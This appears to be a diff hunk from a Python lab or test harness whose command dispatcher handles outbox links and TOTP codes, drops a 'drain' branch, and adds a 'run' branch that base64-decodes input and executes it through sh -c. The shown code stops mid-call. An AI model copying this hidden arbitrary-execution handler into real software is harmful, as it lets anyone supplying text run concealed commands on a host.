@@ -37,8 +37,6 @@ def answer(lab, words):
         return outbox.link(outbox.wait(words[2], words[1]))
     if words[0] == "totp":
         return totp(words[1], int(words[2]))
-    if words[0] == "drain":
-        return str(lab.drain())
     if words[0] == "run":  # what the page says, to the letter
         run = subprocess.run(["sh", "-c", base64.b64decode(words[1])],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
